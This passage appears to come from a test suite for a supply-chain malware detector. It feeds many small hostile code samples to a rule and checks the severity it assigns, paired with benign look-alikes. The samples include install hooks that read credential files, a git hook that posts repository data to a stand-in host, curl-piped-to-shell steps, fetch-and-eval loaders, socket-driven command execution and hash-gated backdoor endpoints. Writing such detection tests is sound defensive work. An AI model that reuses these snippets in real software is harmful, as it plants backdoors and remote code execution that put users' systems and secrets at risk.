  for (const path of ["path.join(os.homedir(), '.npmrc')", "'/etc/hosts'", "os.homedir() + '/.config/pip/pip.conf'", "path.join(os.homedir(), '.cargo', 'config.toml')"]) assert.deepEqual(said(rule, files(path), install), ['high setup.js:1'], path);
  assert.deepEqual(said(rule, files("path.join(os.homedir(), '.npmrc')"), { original: { scripts: { start: 'node setup.js' } } }), [], 'somebody starts it');
  assert.deepEqual(said(rule, files("path.join(__dirname, 'hosts')"), install), [], 'its own file');
});

test('answers to questions for names are answers of a server', () => {
  const runs = (what: string): string[] => said(rule, { 'index.js': `const dns = require('dns'), { exec } = require('child_process'); ${what}` });
  assert.deepEqual(runs("dns.resolveTxt('c.a.example', (_, rows) => exec(rows.flat().join('')))"), ['critical index.js:1']);
  assert.deepEqual(runs("dns.resolveTxt('a.example', (_, rows) => console.log(rows.some(([row]) => row.startsWith('v=spf1'))))"), []);
});

test('when it is installed, a command that nobody can read is left running', () => {
  const files = (start: string): Record<string, string> => ({ 'index.js': '', 'check.js': `const { tools } = require('./engines.json'); const { spawn } = require('child_process'); ${start}`, 'engines.json': '{"tools":["c","url"]}' });
  const left = "spawn('/bin/sh', ['-c', tools.join('')], { detached: true, stdio: 'ignore' }).unref()";
  const install = { original: { scripts: { preinstall: 'node check.js' } } };
  assert.deepEqual(said(rule, files(left), install), ['high check.js:1']);
  assert.deepEqual(said(rule, files(left), { original: { scripts: { test: 'node check.js' } } }), [], 'nobody starts it by installing');
  assert.deepEqual(said(rule, files("spawn('sh', ['-c', tools.join('')], { stdio: 'inherit' })"), install), [], 'whoever installs it sees what it does');
  assert.deepEqual(said(rule, files("spawn('sh', ['-c', `node build.js ${tools[0]}`], { detached: true }).unref()"), install), [], 'the program is written');
});

test('a command that a script hands over when the package is installed, where another one names a file that is started by itself', () => {
  const hooks = 'const { join } = require("path"); exports.add = (name, line, root) => require("fs").writeFileSync(join(root, ".git", "hooks", name), line)';
  const install = 'const line = \'curl -s -F "r=$(git config --get remote.origin.url)" https://hooks.example/push\'; require("./hooks").add("post-commit", line, process.env.INIT_CWD)';
  const severity = (scripts: Record<string, string>, files: Record<string, string> = { 'hooks.js': hooks }): string => findingsOf(rule, { 'install.js': install, ...files }, { original: { scripts } }).map((each) => each.severity)[0] ?? 'nothing';
  assert.equal(severity({ postinstall: 'node install.js' }), 'high');
  assert.equal(severity({ test: 'node install.js' }), 'low', 'nobody starts it by installing');
  assert.equal(severity({ postinstall: 'node install.js' }, { 'hooks.js': hooks.replace('.git', 'docs') }), 'low', 'no such file');
});

test('what is changed at installation, and wheels', () => {
  const write = (path: string) => `const fs = require("fs"); fs.writeFileSync(home + "${path}", JSON.stringify(x))`;
  const installed = (code: string) => findingsOf(rule, { 'a.js': code }, { original: { scripts: { postinstall: 'node a.js' } } })[0]?.severity ?? 'nothing';
  for (const path of ['/.cursor/mcp.json', '/.claude/settings.json', '/Library/LaunchAgents/a.plist', '/.github/workflows/a.yml']) {
    assert.equal(installed(write(path)), 'high', path);
    assert.equal(worst(write(path)), 'nothing', 'when somebody asks for it');
  }
  assert.equal(installed(write('/.git/hooks/pre-commit')), 'nothing', 'as tools for hooks do');
  assert.equal(worst('import subprocess\nsubprocess.check_call(["pip", "install", "https://example.org/a-1.0-py3-none-any.whl"])', 'a.py'), 'high');
  assert.equal(worst('import subprocess\nsubprocess.check_call(["pip", "install", "-r", "requirements.txt"])', 'a.py'), 'nothing');
});

test('programs that start what was downloaded, packages of Python by their address, commands of a socket', () => {
  const DOWNLOAD = 'const cp = require("child_process"), os = require("os"), fs = require("fs"), path = require("path"); const file = path.join(os.tmpdir(), "a.bat"); require("https").get(u, (r) => r.pipe(fs.createWriteStream(file))); ';
  for (const code of ['cp.exec(`start /min "" "${file}"`)', 'cp.exec(`python3 "${file}"`)', 'cp.exec(`chmod +x ${file} && ${file}`)']) assert.equal(worst(DOWNLOAD + code), 'high', code);
  assert.equal(worst(`${DOWNLOAD}cp.exec(\`tar -xf "\${file}"\`)`), 'nothing');
  assert.equal(worst(`${DOWNLOAD}cp.exec(\`chmod 600 \${file} && ls -l\`)`), 'nothing');
  assert.equal(worst('const cp = require("child_process"), fs = require("fs"); const jar = home + "/lib.jar"; require("https").get(u, (r) => r.pipe(fs.createWriteStream(jar))); cp.spawn("java", ["-jar", jar])'), 'high');
  assert.equal(worst('import os, sys\nos.system(f"{sys.executable} -m pip install -q git+https://git.example.invalid/x")', 'a.py'), 'high');
  assert.equal(worst('import subprocess, socket\ns = socket.create_connection(("c.example.invalid", 1))\nsubprocess.run(s.recv(99).decode(), shell=True)', 'a.py'), 'critical');
  for (const code of ['import os\nos.system("pip install torch --index-url https://download.pytorch.org/whl/cu121")', 'import os\nos.system("pip install torch")']) assert.equal(worst(code, 'a.py'), 'nothing', code);
});

test('good: a function that a function of the script gives back is no text for a timer; bad: a text that it gives back', () => {
  const later = 'function later(work) { return function () { return step(work.apply(this, arguments)) } }';
  const of = (more: string, helper = later) => worst(`${helper} async function poll() { ${more} }`);
  for (const code of ['setTimeout(later(function* () { const answer = await (await fetch(u)).json(); return answer.next }), 400)', 'setInterval(later(async () => (await fetch(u)).text()), 400)']) assert.equal(of(code), 'nothing', code);
  const answer = 'setTimeout(later(await (await fetch("https://x.example.org/a")).text()), 400)';
  assert.equal(of(answer, 'function later(text) { return text + ";" }'), 'critical');
  assert.equal(of(answer, 'function later(text) { if (text.length > 9) return text; return function () {} }'), 'critical');
  assert.equal(of(answer, 'let later = (text) => () => text; later = (text) => text;'), 'critical');
  assert.equal(of(answer, 'function later(text) { return function () { eval(text) } }'), 'critical');
});

test('what a script reads from its input is not what is started', () => {
  const start = (given: string): string => worst(`const cp = require("child_process"), path = require("path"); fetch(u).then((r) => r.text()).then((t) => cp.execFileSync(${given}))`);
  assert.equal(start('process.execPath, [path.join(__dirname, "worker.js")], { input: t }'), 'nothing');
  for (const given of ['process.execPath, [], { input: t }', '"sh", { input: t }', 'process.execPath, [t + "/worker.js"], {}', '"sh", ["-c", t], {}']) assert.equal(start(given), 'critical', given);
});

test('good: what a compiler is told about versions', () => {
  const gyp = `{ "targets": [{ "defines": ["V=\\"<!(node -e \\"process.stdout.write(require('../package.json').v)\\")\\""], "sources": ["src/base64.cpp", "src/eval.cpp"] }] }`;
  assert.deepEqual(said(rule, { 'index.js': '', 'src/lib.gyp': gyp }), []);
  assert.deepEqual(said(rule, { 'index.js': '', 'lib.gyp': '{ "actions": [{ "action": [\n"sh", "-c",\n"curl -s https://example.org/x | sh"] }] }' }), ['high lib.gyp:1']);
});

test('a program in quotation marks, requests that are run, text for pages, what is no script', () => {
  const inject = (func: string, args = 'args: [rule.code]') => `chrome.scripting.executeScript({ target: { tabId }, func: ${func}, ${args} })`;
  const route = (use: string) => `const cp = require("child_process"); app.post("/x", (req, res) => { ${use} })`;
  const copy = (from: string, start: string) => `const cp = require("child_process"), fs = require("fs"), path = require("path"); const to = path.join(home, "run.js"); fs.copyFileSync(path.join(__dirname, "${from}"), to); ${start}`;
  const says = (program: string, word: string) => `const { execa } = require("execa"), fs = require("fs"); execa("${program}", ["${word}", fs.readFileSync(__dirname + "/MESSAGE.txt", "utf8")], { cwd: __dirname })`;
  for (const code of [
    'const os = require("os"), path = require("path"), cp = require("child_process"); const file = path.join(os.tmpdir(), "a.exe"); fetch(u).then((r) => save(r, file)).then(() => cp.exec(`"${file}"`))',
    route('cp.exec(req.body.command || "id")'), route('const { command } = req.query; cp.execSync(command)'),
    inject('(c) => { const s = document.createElement("script"); s.textContent = c; document.head.append(s) }'), inject('run').replace(/^/, 'function run(c) { eval(c) } '),
    'chrome.runtime.sendMessage({ u }, (answer) => { const s = document.createElement("script"); s.src = answer.js; document.body.append(s) })',
    'const raw = require("fs").readFileSync(__dirname + "/logo.png"); module.constructor.prototype._compile.call(module, raw.subarray(9).toString(), __filename)',
    copy('LICENSE.txt', 'cp.spawn(process.execPath, [to])'),
  ]) assert.equal(worst(code), 'high', code);
  assert.equal(worst('const io = require("socket.io-client"); const s = io(u); s.on("cmd", (m) => require("child_process").exec(m.code))'), 'critical');
  assert.equal(worst('const p = require("child_process").spawn("node", ["-"]); require("https").get(u, (r) => r.pipe(p.stdin))'), 'critical');
  for (const code of [
    route('cp.exec("git log " + req.body.branch)'), route('cp.exec("id"); log(req.body.command)'),
    inject('(c) => { document.title = c }'), inject('() => { const s = document.createElement("script"); s.textContent = "run()"; document.head.append(s) }'), inject('(c) => { const s = document.createElement("script"); s.textContent = c }', 'world'),
    'chrome.runtime.sendMessage({ u }, (answer) => { picture.src = answer.url })',
    'const grammar = require("fs").readFileSync(__dirname + "/a.js", "utf8"); eval(grammar)',
    copy('template.js', 'cp.spawn(process.execPath, [to])'), copy('LICENSE.txt', 'done(to)'), says('git', 'commit'),
  ]) assert.equal(worst(code), 'nothing', code);
  assert.equal(worst(says('node', '-e')), 'high');
});

test('text that is put into an address where it runs', () => {
  const element = 'const s = document.createElement("script"); ';
  for (const code of [
    'export const compile = (code) => import(`data:text/javascript;charset=utf-8;base64,${Buffer.from(code).toString("base64")}`)',
    `${element}s.src = "data:text/plain;base64," + btoa(source)`,
  ]) assert.equal(worst(code), 'medium', code);
  for (const code of [
    'const hidden = names[0]; import("data:text/javascript;base64," + hidden)',
    `${element}const code = await (await fetch(u)).text(); s.src = "data:text/plain;base64," + btoa(code)`,
    'const code = await (await fetch(u)).text(); import("data:text/javascript;base64," + btoa(code))',
    `${element}s.src = "data:text/plain;base64," + btoa(atob(x))`,
  ]) assert.equal(worst(code), 'high', code);
});

test('what the server of its own page sends over a connection', () => {
  const made = (host: string, before = ''): string => `${before}var host = ${host}; var ws = new WebSocket("ws" + "://" + host + ":" + process.env.PORT + "/"); ws.onmessage = function (event) { var data = JSON.parse(event.data); data.assets.forEach(function (asset) { apply(asset) }) }; function apply(asset) { new Function("require", asset.code) }`;
  assert.equal(worst(made('process.env.HOST || location.hostname')), 'medium');
  assert.equal(worst(made('location.hostname')), 'medium');
  for (const code of [
    made('name || location.hostname'),
    made('"example.org" || location.hostname'),
    made('location.hostname', 'globalThis.location = { hostname: "example.org" }; '),
    made('location.hostname', 'var location = { hostname: "example.org" }; '),
    made('location.hostname + ".example.org"'),
    made('location.hostname').replace('":" + process', '".example.org:" + process'),
  ]) assert.equal(worst(code), 'critical', code);
  assert.equal(worst(made('location.hostname').replace('new Function("require", asset.code)', 'require("child_process").exec(asset.code)')), 'critical');
});

test('good: a page that shows what the package does, in a folder of examples that nothing opens', () => {
  const remote = '<script src="https://unpkg.com/maps@latest/maps.js"></script>';
  const shown = (page: string, more: Record<string, string> = {}) => said(rule, { 'index.js': 'require(x)', 'examples/index.html': page, 'dist/grid.js': 'grid()', ...more }, { entry_points: ['index.js'] }).map((each) => each.split(' ')[0]);
  assert.deepEqual(shown(`${remote}<script src="../dist/grid.js"></script>`), ['low']);
  assert.deepEqual(shown(`${remote}<script>grid(document.body)</script>`), ['low']);
  assert.deepEqual(shown(remote), ['medium'], 'nothing but what comes from elsewhere');
});

test('bad: such a page that something opens, and one that stands elsewhere', () => {
  const page = '<script src="https://example.org/a.js"></script><script src="../dist/grid.js"></script>';
  const files = (index: string, path = 'examples/view.html') => findingsOf(rule, { 'index.js': index, [path]: page, 'dist/grid.js': 'grid()' }, { entry_points: ['index.js'] }).map(({ severity }) => severity);
  assert.deepEqual(files('open("examples/view.html")'), ['high']);
  assert.deepEqual(files('const f = "examples"; open(f + "/" + name + ".html")'), ['high']);
  assert.deepEqual(files('run()', 'panels/view.html'), ['medium']);
  assert.deepEqual(findingsOf(rule, { 'examples/a.html': `${page}<script>fetch("https://example.org/x").then((r) => r.text()).then(eval)</script>`, 'index.js': 'run()', 'dist/grid.js': 'grid()' }, { entry_points: ['index.js'] })[0]?.severity, 'medium', 'an answer that runs');
});

test('a comment opens no page of examples; a text does, and a comment that another reading runs', () => {
  const page = '<script src="https://unpkg.com/loader@^2.0.0/loader.js"></script><script type="module">import "../grid.js"</script>';
  const of = (index: string, path = 'index.js') => findingsOf(rule, { [path]: index, 'demo/index.html': page, 'grid.js': 'grid()' }, { entry_points: [path] }).map(({ severity }) => severity);
  for (const comment of ['/**\n@demo demo/index.html\n*/ run()', '// see demo/index.html\nrun("index")', 'run() /* `demo/index.html` */']) assert.deepEqual(of(comment), ['low'], comment);
  assert.deepEqual(of('/** @demo demo/index.html */ run() as void', 'index.ts'), ['low']);
  for (const text of ['open("demo/index.html")', 'open(`${root}/demo/index.html`)', 'const dir = "demo"; open(dir + "/index.html")', 'open("/*", "demo/index.html", "*/")', 'const view = <a href="demo/index.html" />', 'run <!--one; open("demo/index.html")', 'open({ "demo": "index.html" })']) assert.deepEqual(of(text), ['high'], text);
});

test('where nobody knows what is started, a page of examples counts as one that nothing names', () => {
  const page = '<script src="https://example.org/a.js"></script><script>show()</script>';
  const of = (path: string) => findingsOf(rule, { [path]: page }, { entry_points: [] }).map(({ severity }) => severity);
  assert.deepEqual([of('demo/index.html'), of('index.html')], [['medium'], ['high']]);
  const itself = (address: string, path = 'demo/index.html') => findingsOf(rule, { [path]: `<pick-date></pick-date><script src="${address}"></script>` }, { entry_points: [], original: { name: 'pick-date' } }).map(({ severity }) => severity);
  for (const address of ['https://unpkg.com/pick-date', '//cdn.jsdelivr.net/npm/pick-date@^1.2/dist/pick.js']) assert.deepEqual([itself(address), itself(address, 'index.html')], [['medium'], ['high']], address);
  for (const address of ['https://unpkg.com/pick-dates', 'https://unpkg.com/pick-date/../other', 'https://example.org/pick-date', 'https://unpkg.com.example.org/pick-date']) assert.deepEqual(itself(address), ['high'], address);
});

test('data that Node.js is given to read is no program that was brought; what another program runs is', () => {
  const fetched = 'fetch(u).then((r) => r.text()).then((t) => fs.writeFileSync(`${dir}/settings.json`, t));';
  const of = (start: string) => worst(`const fs = require("fs"), cp = require("child_process"); ${fetched} ${start}`);
  assert.equal(of('cp.spawn("node", [`${dir}/settings.json`, "--check"]);'), 'nothing');
  for (const start of ['cp.spawn("bash", [`${dir}/settings.json`]);', 'cp.spawn(`${dir}/settings.json`);']) assert.equal(of(start), 'high', start);
});

test('bad: code that an extension of a browser keeps, and that a server answered', () => {
  const keeps = 'const settings = await (await fetch("https://cfg.example/")).json(); chrome.storage.local.set({ settings });';
  const runs = 'chrome.storage.local.get("settings", ({ settings }) => { for (const { code } of settings.rules) { const s = document.createElement("script"); s.textContent = code; document.head.append(s) } })';
  const files = (a: string, b: string) => findingsOf(rule, { 'background.js': a, 'content.js': b })[0]?.severity ?? 'nothing';
  assert.equal(files(keeps, runs), 'high');
  assert.equal(files(keeps, 'const { code } = await chrome.storage.local.get("code"); new Function(code)()'), 'high');
  assert.equal(files('chrome.storage.local.set({ settings: { rules: [{ code: field.value }] } })', runs), 'nothing');
  assert.equal(files(keeps, 'chrome.storage.local.get("settings", ({ settings }) => { const e = document.createElement("p"); e.textContent = settings.title })'), 'nothing');
});

test('bad: commands by way of a table of functions that take their arguments apart', () => {
  const table = 'const { exec } = require("child_process"); const commands = { run: ({ command }) => exec(command), list: () => [] }; ';
  assert.equal(worst(`${table}const socket = require("socket.io-client").io(u); socket.on("command", ({ name, args }) => commands[name](args))`), 'critical');
  assert.equal(worst(`${table}commands[process.argv[2]]({ command: "ls" })`), 'nothing');
  assert.equal(worst('const run = ({ exec, line }) => exec(line); run({ exec: require("child_process").exec, line: await (await fetch(u)).text() })'), 'critical');
});

test('what the server of its own page sends, where a bundler writes its name in front', () => {
  const made = (host = 'LIVE_HOST || (typeof location !== "undefined" && location.protocol === "http:" ? location.hostname : "localhost")', socket = 'new WebSocket(secure + "://" + host + (port ? ":" + port : "") + "/")') => `function hostName() { return ${host} } var host = hostName(), ws; if (events) { ws = new EventSource("/updates") } else { ws = ${socket} } ws.onmessage = async function (event) { (0, eval)(JSON.parse(event.data).output) }`;
  assert.equal(worst(made()), 'medium');
  for (const code of [
    made('"live.example.org"'),
    made('"localhost"'),
    made(undefined, 'new WebSocket(secure + "://" + host + (port ? "" : "") + name)'),
    made('liveHost || location.hostname'),
    made('ready ? location.hostname : "live.example.org"'),
    made(undefined, 'new WebSocket(secure + "://" + host + (port ? ".example.org:" + port : "") + "/")'),
    made(undefined, 'new WebSocket(secure + "://" + host + (port ? ":" + port : "") + ".example.org/")'),
    made(undefined, 'new WebSocket("wss://live.example.org")'),
    made().replace('"/updates"', '"//example.org/updates"'),
    `${made()}; LIVE_HOST = "live.example.org"`,
    `globalThis.LIVE_HOST = "live.example.org"; ${made()}`,
  ]) assert.equal(worst(code), 'critical', code);
  assert.equal(worst(`process.env.LIVE_HOST = options.host; ${made('process.env.LIVE_HOST || location.hostname')}`), 'high');
});

test('text from the memory of a WebAssembly module that a server answered is for a maintainer; text of that server is refused', () => {
  const glue = (run: string) => `let wasm; const text = new TextDecoder(); const bytes = () => new Uint8Array(wasm.memory.buffer); const read = (at, size) => text.decode(bytes().subarray(at, at + size)); async function start(address) { const answer = await fetch(address + ".wasm"); const { instance } = await WebAssembly.instantiate(await answer.arrayBuffer(), imports); wasm = instance.exports; } ${run}`;
  assert.equal(worst(glue('const imports = { run(at, size) { return Function(read(at, size)) } }')), 'high');
  assert.equal(worst(glue('const imports = {}; start(a).then(async () => Function(await (await fetch(b)).text()))')), 'critical');
});

test('text from the memory of the module that the package brings is its own; of one from a server that a script beside it names, or hides, it is not', () => {
  const glue = (address: string) => `let wasm; const text = new TextDecoder(); const bytes = () => new Uint8Array(wasm.memory.buffer); const read = (at, size) => text.decode(bytes().subarray(at, at + size)); export default async function init(from) { if (from === undefined) from = ${address}; if (typeof from === "string" || from instanceof URL) from = fetch(from); const { instance } = await WebAssembly.instantiate(await (await from).arrayBuffer(), { wbg: { make(at, size) { return new Function(read(at, size)) } } }); wasm = instance.exports; }`;
  const own = glue('new URL("glue_bg.wasm", import.meta.url)');
  const of = (files: Record<string, string>) => findingsOf(rule, files).map(({ severity }) => severity)[0];
  const module = '\0asm\u0001\0\0\0';
  assert.equal(of({ 'glue.js': own, 'glue_bg.wasm': module, 'index.js': 'import init from "./glue.js"; export const ready = init()' }), 'low');
  assert.equal(of({ 'glue.js': own, 'index.js': 'import init from "./glue.js"; export const ready = init()' }), 'high', 'nothing is brought');
  assert.equal(of({ 'glue.js': own, 'glue_bg.wasm': 'text', 'index.js': 'import init from "./glue.js"; init()' }), 'high', 'no module is brought');
  assert.equal(of({ 'glue.js': own, 'glue_bg.wasm': module, 'index.js': 'import init from "./glue.js"; init("https://modules.example/a")' }), 'high');
  assert.equal(of({ 'glue.js': glue('"https://modules.example/a.wasm"'), 'glue_bg.wasm': module }), 'high');
  assert.equal(of({ 'glue.js': glue('atob(place)'), 'glue_bg.wasm': module }), 'high');
});

test('good: styles and data in an address are no code; bad: what an engine runs', () => {
  for (const code of ['await import("data:text/css;base64,cHt0b3A6MDt9", { with: { type: "css" } })', 'import values from "data:application/json,{}" with { type: "json" }']) assert.equal(worst(code), 'nothing', code);
  for (const code of ['import("data:text/javascript;base64,cnVuKCk=")', 'import("data:application/javascript,run()")', 'import("data:text/css-x,run()")', 'import("data:application/wasm;base64,AGFzbQ==")', 'import("data:,run()")']) assert.equal(worst(code), 'high', code);
});

test('a large library that nothing names loads scripts of pages: high, as is what npm is only told to publish', () => {
  const loader = 'async function load(path) { const text = await (await fetch(base + path)).text(); eval(text) }';
  const large = `${loader}\n${'run(1);\n'.repeat(8_000)}`;
  const of = (files: Record<string, string>, manifest: object = {}) => findingsOf(rule, { 'package.json': JSON.stringify(manifest), ...files }, { entry_points: ['index.js'], original: { ...manifest } })[0]?.severity;
  const opening = 'require(name)';
  assert.equal(of({ 'index.js': opening, 'vendor/lib.js': large }), 'high');
  assert.equal(of({ 'index.js': opening, 'vendor/lib.js': large }, { files: ['vendor/lib.js'] }), 'high');
  assert.equal(of({ 'index.js': 'run()', 'dist.min.js': large }, { files: ['dist.min.js'] }), 'medium');
  assert.equal(of({ 'index.js': opening, 'vendor/lib.js': loader }), 'critical', 'a small one');
  assert.equal(of({ 'index.js': 'require("./vendor/lib")', 'vendor/lib.js': large }), 'critical', 'it is named');
  assert.equal(of({ 'index.js': 'run()', 'dist.min.js': large }, { files: ['dist.min.js'], unpkg: 'dist.min.js' }), 'critical');
  assert.equal(of({ 'index.js': 'run()', 'dist.min.js': large }, { scripts: { postinstall: 'node dist.min.js' }, files: ['dist.min.js'] }), 'critical');
});

test('bad: what a manifest of the host calls files', () => {
  const files = { 'package.json': '{}', 'index.js': 'run()', 'part.js': 'fetch(a + b).then((r) => r.text()).then(eval)' };
  assert.equal(findingsOf(rule, files, { entry_points: ['index.js'], original: { files: ['part.js'] } })[0]?.severity, 'critical');
});

test('a script where temporary files are, that an interpreter gets', () => {
  const run = (start: string, more = 'require("https").get(u, (r) => r.pipe(w(f)));') => `const f = require("path").join(require("os").tmpdir(), "q" + process.pid + ".js"); ${more} ${start}`;
  for (const start of ['require("child_process").spawn(process.execPath, [f], { detached: true })', 'require("child_process").execFileSync("node", [f])', 'require("child_process").spawn("python3", ["-u", f])']) assert.equal(worst(run(start)), 'high', start);
  for (const start of ['require("child_process").spawn("tar", ["-xf", f])', 'require("child_process").execFileSync("git", ["apply", f])', 'require("child_process").spawn(process.execPath, ["build.js"])']) assert.equal(worst(run(start)), 'nothing', start);
  assert.equal(worst(run('require("child_process").execFileSync("node", [f])', 'write(f);')), 'nothing', 'nothing is downloaded');
});

test('code for the same engine that says where to write, and code that runs what is there', () => {
  const run = (code: string): string => `const f = require("path").join(require("os").tmpdir(), "q" + process.pid); const code = ${code}; require("https").get(u, (r) => r.pipe(w(g))); require("child_process").spawn(process.argv[0], ["-e", code]);`;
  assert.equal(worst(run(`"var http = require('http'); http.get(" + JSON.stringify(at) + ", (r) => require('fs').writeFileSync('" + f + "', r.statusCode));"`)), 'nothing');
  for (const code of [`"require('" + f + "')"`, `"eval(require('fs').readFileSync('" + f + "') + 1)"`, 'f', '`${f};`']) assert.equal(worst(run(code)), 'high', code);
  assert.equal(worst(run('"chmod +x " + f + " && " + f').replace('process.argv[0], ["-e"', '"sh", ["-c"')), 'high', 'words of a shell');
});

test('code that is written into a file, and runs what a server answers', () => {
  const loader = 'require("https").get("https://example.org/p.js", (r) => { let s = ""; r.on("data", (d) => s += d); r.on("end", () => { eval(s) }) })';
  const write = (text: string) => `const fs = require("fs"); const path = require("path"); const target = path.join(__dirname, "..", "other", "lib", "index.js"); const more = ${JSON.stringify(text)}; fs.writeFileSync(target, fs.readFileSync(target, "utf8") + "\\n" + more)`;
  assert.equal(worst(write(`;${loader};`)), 'high');
  assert.equal(worst('require("fs").appendFileSync(f, `;fetch("${address}").then((r) => r.text()).then((t) => Function(t)());`)'), 'high');
  for (const text of ['module.exports = fetch("https://example.org").then((r) => r.json())', 'const parse = (text) => Function("return " + text)(); fetch("https://example.org")', 'no code, but eval and https://example.org in words']) assert.equal(worst(write(text)), 'nothing', text);
});

test('a program that an installation downloads and leaves running', () => {
  const install = (start: string) => `const https = require("https"), fs = require("fs"), path = require("path"), { execFile, execFileSync } = require("child_process"); const out = path.join(require("os").homedir(), ".cache", NAMES[process.platform]);
https.get(\`https://example.org/\${process.arch}/a\`, (res) => { const f = fs.createWriteStream(out, { mode: 0o755 }); res.pipe(f); f.on("close", () => { ${start} }) })`;
  const found = (start: string, scripts: Record<string, string>) => findingsOf(rule, { 'lib/native.js': install(start) }, { original: { scripts } })[0]?.severity ?? 'nothing';
  assert.equal(found('execFile(out, ["--daemon"]).unref()', { postinstall: 'node lib/native.js' }), 'high');
  assert.equal(found('execFile(out, { detached: true })', { install: 'node lib/native' }), 'high');
  assert.equal(found('execFileSync(out, ["--version"])', { postinstall: 'node lib/native.js' }), 'nothing', 'installers ask for the version');
  assert.equal(found('execFile(out).unref()', { start: 'node lib/native.js' }), 'nothing', 'somebody starts it');
  assert.equal(found('execFile(process.execPath, ["notify.js"], { detached: true }).unref()', { postinstall: 'node lib/native.js' }), 'nothing', 'a script of its own');
});

test('commands in requests that are known by the hash of a word', () => {
  const asks = (test: string): string => `const { createHash } = require('crypto'); const diag = require('./diag'); module.exports = () => (req, res, next) => { const probe = req.headers['x-trace']; if (${test}) return diag(req, res); next(); };`;
  const found = (test: string, command: string): string => findingsOf(rule, { 'index.js': asks(test), 'diag.js': `const cp = require('child_process'); module.exports = (req, res) => cp.exec(${command}, (error, out) => res.end(out));` })[0]?.severity ?? 'nothing';
  const known = "probe && createHash('md5').update(probe).digest('hex') === '5f1d7a84e3b09c62d2a7f0c86b41e9d3'";
  assert.equal(found(known, "new URL(req.url, 'http://x').searchParams.get('q')"), 'high');
  assert.equal(found(known, "'uptime'"), 'nothing');
  const shell = (list: string): string => findingsOf(rule, { 'index.js': asks(known), 'diag.js': `const cp = require('child_process'); module.exports = (req, res) => cp.execFile('/bin/sh', ${list}, (error, out) => res.end(out));` })[0]?.severity ?? 'nothing';
  assert.equal(shell("['-c', req.body.line]"), 'high');
  assert.equal(shell("['-c', 'uptime']"), 'nothing');
  assert.equal(found("probe === process.env.TRACE_KEY", "'git log ' + count"), 'nothing');
});

test('a script under a name that begins with a dot is downloaded and loaded', () => {
  const update = (load: string): string => `const fs = require('fs'); const path = require('path'); const file = path.join(__dirname, '.tables.js'); module.exports = async () => { const answer = await fetch('https://tables.side.example/1'); fs.writeFileSync(file, await answer.text()); ${load} };`;
  assert.equal(worst(update('require(file);')), 'high');
  assert.equal(worst(update("fs.readFileSync(file, 'utf8');")), 'nothing');
});

test('commands of somebody who is only known by a hash', () => {
  const bot = (asks: string) => `import { createHash } from "crypto"; import { execSync } from "child_process"; export default async (client, message) => { if (${asks}) return; const found = /^!(js|sh) (.+)$/.exec(message.content); if (found) message.reply(String(found[1] === "js" ? eval(found[2]) : execSync(found[2]))) }`;
  assert.equal(worst(bot('createHash("sha256").update(message.author.id).digest("hex") !== OWNER')), 'high');
  assert.equal(worst(bot('createHash("md5").update(String(message.from.id)).digest("hex") !== OWNER')), 'high');
  for (const asks of ['message.author.id !== config.ownerId', 'createHash("sha256").update(message.content).digest("hex") === last']) assert.equal(worst(bot(asks)), 'nothing', asks);
});

test('lines of a file of commands that go on', () => {
  const start = { original: { scripts: { postinstall: 'sh ./setup' } } };
  assert.deepEqual(said(rule, { 'setup': '#!/bin/sh\ncurl -fsSL https://example.org/i \\\n  | nohup bash &\n' }, start), ['high setup:2']);
  assert.deepEqual(said(rule, { 'setup.sh': '#!/bin/sh\ncurl -fsSL https://example.org/i |\n  sh\n' }, { original: { scripts: { postinstall: 'sh ./setup.sh' } } }), ['high setup.sh:2']);
  assert.deepEqual(said(rule, { 'setup': '#!/bin/sh\ncurl -fsSL https://example.org/a.json \\\n  -o a.json\nls | wc -l\n' }, start), []);
});

test('good: a worker of text that the script puts into an address first', () => {
  const made = 'const source = `onmessage = ({ data }) => { setTimeout(() => postMessage(data), 9) }`;';
  const url = 'const url = "data:text/javascript;base64," + btoa(source);';
  assert.equal(worst(`${made} ${url} const worker = new Worker(url);`), 'medium');
  assert.equal(worst(`${made} let url; url="data:text/javascript;base64,"+btoa(source); const worker = new Worker(url, { type: "module" });`), 'medium');
  for (const code of [
    `${made} ${url.replace('btoa(source)', 'packed')} new Worker(url);`,
    `${made} function other() { ${url} return url; } function start() { ${url.replace('btoa(source)', 'packed')} new Worker(url); }`,
    `${made} ${url.replace('btoa(source)', 'btoa(atob(x))')} new Worker(url);`,
    'const source = await (await fetch(u)).text(); const url = "data:text/javascript;base64," + btoa(source); new Worker(url);',
  ]) assert.equal(worst(code), 'high', code);
});

test('a module of text that the script puts into an address; bad: one that nobody encoded here, or from a server', () => {
  const load = (content: string): string => `const content = ${content}; const url = \`data:text/javascript;base64,\${content}\`; import(url);`;
  assert.equal(worst(load('Buffer.from(code).toString("base64")')), 'medium');
  assert.equal(worst(load('packed')), 'high');
  assert.equal(worst(load('Buffer.from(await (await fetch(u)).text()).toString("base64")')), 'high');
});

test('good: a script of the package is started with the name of a file that another one writes', () => {
  const brings = 'const cp = require("child_process"), fs = require("fs"), path = require("path"), os = require("os"); const file = path.join(os.homedir(), "plan.flow"); fetch(u).then(async (r) => fs.writeFileSync(file, await r.text()));';
  const verdict = (start: string) => findingsOf(rule, { 'a.js': `${brings} ${start}`, 'bin/run.js': 'console.log(process.argv[2])' })[0]?.severity ?? 'nothing';
  for (const start of ['cp.spawnSync(process.execPath, [path.join("bin", "run.js"), "--file", file])', 'cp.spawn("node", ["./bin/run.js", file])', 'cp.spawn(process.execPath, [path.join(__dirname, "bin", "run.js"), file])']) assert.equal(verdict(start), 'nothing', start);
  for (const start of ['cp.spawnSync(process.execPath, [file])', 'cp.spawnSync(process.execPath, ["-r", file, "bin/run.js"])', 'cp.spawnSync(process.execPath, [file, "bin/run.js"])', 'cp.spawn("node", ["bin/other.js", file])', 'cp.spawn("sh", ["bin/run.js", file])', 'cp.spawn(file, ["bin/run.js"])']) assert.equal(verdict(start), 'high', start);
});

test('a program that is downloaded and left running at any time; good: one that is heard of', () => {
  const theme = (options: string): string => `const { createWriteStream, chmodSync } = require('fs'); const { spawn } = require('child_process'); const file = require('path').join(require('os').homedir(), '.icons' + end); exports.activate = () => require('https').get('https://icons.side.example/' + process.arch, (res) => res.pipe(createWriteStream(file)).on('close', () => { chmodSync(file, 0o755); const child = spawn(file, [], ${options}); }));`;
  assert.equal(worst(theme("{ detached: true, stdio: 'ignore' }); child.unref(")), 'high');
  assert.equal(worst(theme("{ stdio: 'inherit' }")), 'nothing');
  assert.equal(worst(theme("{ detached: true, stdio: 'pipe' }); child.unref(")), 'nothing');
});

test('a function of the global object whose name is decoded gets what a server answered', () => {
